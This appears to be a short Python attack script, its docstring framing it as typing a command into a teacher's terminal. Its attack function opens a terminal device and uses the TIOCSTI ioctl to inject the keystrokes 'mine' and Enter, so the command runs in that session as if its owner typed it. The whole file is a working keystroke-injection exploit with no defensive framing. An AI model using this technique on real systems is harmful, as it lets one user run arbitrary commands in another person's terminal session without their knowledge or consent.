"""Type a command into the teacher's terminal."""

import fcntl
import os
import termios


def attack(path):
    terminal = os.open(path, os.O_RDWR)  # the first one of a session becomes its own
    for character in b"mine\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
